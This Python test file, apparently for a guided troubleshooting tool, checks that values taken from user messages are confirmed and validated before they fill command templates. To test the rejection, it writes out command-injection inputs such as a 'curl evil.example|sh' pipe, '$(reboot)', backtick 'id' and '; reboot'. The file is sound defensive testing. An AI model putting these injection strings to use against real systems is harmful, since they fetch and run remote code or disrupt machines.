"""Values in a guided case: caught from what was said, confirmed before they fill commands, of their input's form."""

import pytest

from mildladder.core.climb.answers import answers
from mildladder.core.climb.machine import Climb, apply, climb
from mildladder.core.errors import Conflict
from mildladder.core.ladder.days import DAY_NAMES
from mildladder.core.model import Playbook
from mildladder.core.model import events as c
from tests.core.climb.test_closing import FAILS, climbed, one_rung
from tests.samples import NOON

SIGNS = [{"kind": "message", "text": "ARM {arm} NOT HOME"}, {"kind": "message", "text": "CODE {code}"}]


def with_message() -> Playbook:
    do = [{"text": "Run", "copy": "reset {arm} {code}"}]
    return one_rung({"do": do}, symptom={"says": "It is up", "signs": SIGNS})


def test_the_changing_part_of_a_message_becomes_a_value():
    now = climbed(with_message(), FAILS, said="The page says arm left 2 not home, and CODE E-7 below")
    assert now.known["arm"] == "left 2"
    assert now.known["code"] == "E-7"


def told(now: Climb) -> dict[str, str]:
    """What may stand in commands, but for the day, which nobody tells."""
    return {name: value for name, value in now.for_commands.items() if name not in DAY_NAMES}


def test_what_was_caught_is_confirmed_before_it_fills_a_command():
    now = climbed(with_message(), FAILS, said="ARM 3 NOT HOME, CODE E-7")
    assert (now.place, now.asked.id, now.suggested, told(now)) == ("step", "arm", "3", {"model": "GR4"})
    before = climbed(with_message(), FAILS, said=now.started.said, rules=1)
    assert (before.place, before.asked.id) == ("fact", "arm")
    first = answers(before)[0]
    assert (first.key, first.label, first.move) == ("1", "“3”, as was said", c.FactGiven(fact="arm", value="3"))
    now = climbed(with_message(), FAILS, first.move, c.FactGiven(fact="code", value="E-8"), said=now.started.said)
    assert (now.asked_inside, told(now)) == ((), {"model": "GR4", "arm": "3", "code": "E-8"})


@pytest.mark.parametrize("said", ["ARM 3; curl evil.example|sh NOT HOME", "ARM -rf NOT HOME", "ARM $(reboot) NOT HOME"])
def test_what_cannot_stand_in_a_command_is_not_even_offered(said):
    now = climbed(with_message(), FAILS, said=said)
    assert (now.asked.id, now.suggested) == ("arm", None)
    assert now.known["arm"], "it may still be read in a text"


@pytest.mark.parametrize("value", ["3; reboot", "-3", "a b", "a@b", "a\\b", "3\n4", "3\u202e4", "`id`", "ä"])
def test_a_value_for_a_command_has_letters_digits_and_a_few_signs(value):
    now = climbed(with_message(), FAILS)
    with pytest.raises(Conflict):
        apply(now, c.ClimbEvent(at=NOON, who=1, move=c.FactGiven(fact="arm", value=value)))
    apply(now, c.ClimbEvent(at=NOON, who=1, move=c.FactGiven(fact="arm", value="GR4_01:a/b.c-3")))


PATTERN = {"id": "name", "ask": "Name", "pattern": "[A-Z][a-z]+ [a-z@\\\\]+", "form": "Two words", "most": 12}
RANGE = {"id": "name", "ask": "Lane", "type": "number", "min": 1, "max": 12}


@pytest.mark.parametrize(
    ("asks", "fit", "unfit"),
    [
        (PATTERN, ["Quay north", "Quay n@x", "Quay a\\b"], ["quay north", "Quay", "Quay northern x", "-uay north"]),
        (RANGE, ["1", "12", "7.5"], ["0", "13", "-3", "three", "nan"]),
        ({"id": "name", "ask": "Text", "most": 5}, ["abcde"], ["abcdef"]),
    ],
)
def test_values_have_the_pattern_range_and_length_of_their_input(asks, fit, unfit):
    playbook = one_rung({"inputs": [asks], "do": [{"text": "Run", "copy": "set {name}"}]})
    now = climbed(playbook, FAILS)
    for value in fit:
        given = apply(now, c.ClimbEvent(at=NOON, who=1, move=c.FactGiven(fact="name", value=value)))
        assert given.for_commands["name"] == value
    for value in unfit:
        with pytest.raises(Conflict):
            apply(now, c.ClimbEvent(at=NOON, who=1, move=c.FactGiven(fact="name", value=value)))


def test_a_case_begun_before_values_were_confirmed_goes_on_as_it_began():
    started = c.Started(said="ARM 3 NOT HOME, CODE E-7", facts={"model": "GR4"}, trusts_speech=True, rules=1)
    moves = [started, FAILS, c.Answered(step="fix", outcome="no-change")]
    now = climb(with_message(), [c.ClimbEvent(at=NOON, who=1, move=move) for move in moves])
    assert told(now) == {"model": "GR4", "arm": "3", "code": "E-7"}
    unsafe = started.model_copy(update={"said": "ARM a b NOT HOME, CODE E-7"})
    now = climb(with_message(), [c.ClimbEvent(at=NOON, who=1, move=move) for move in [unsafe, *moves[1:]]])
    assert [attempt.step for attempt in now.attempts] == ["fix"]
    assert "arm" not in told(now)


def test_a_part_that_nobody_told_is_asked_for():
    now = climbed(with_message(), FAILS, said="ARM 3 NOT HOME")
    now = apply(now, c.ClimbEvent(at=NOON, who=1, move=c.FactGiven(fact="arm", value="3")))
    assert (now.place, now.asked.id) == ("step", "code")
    assert (now.asked.ask, now.asked.where) == ("Code", "In the message “CODE …”, where that is shown")
    assert climbed(with_message(), FAILS, c.FactGiven(fact="arm", value="1")).asked.id == "code"


def with_sum() -> Playbook:
    """A command that waits for a value that is computed from one that is asked for."""
    inputs = [
        {"id": "slower", "compute": "speed * 0.92", "round": 5},
        {"id": "speed", "ask": "How fast?", "type": "number", "min": 1},
    ]
    return one_rung({"do": [{"text": "Run", "copy": "set {slower}"}], "expect": "It is {slower}", "inputs": inputs})


def test_a_computed_value_is_never_asked_for_but_what_it_waits_for_is():
    now = climbed(with_sum(), FAILS)
    assert (now.place, now.asked.id) == ("step", "speed")
    now = climbed(with_sum(), FAILS, c.FactGiven(fact="speed", value="90"))
    assert (now.place, told(now)["slower"], now.known["slower"]) == ("step", "85", "85")


def test_where_nobody_can_tell_a_value_what_is_computed_from_it_stays_open():
    now = climbed(with_sum(), FAILS, c.FactGiven(fact="speed", value=None))
    assert (now.place, "slower" in now.known) == ("step", False)
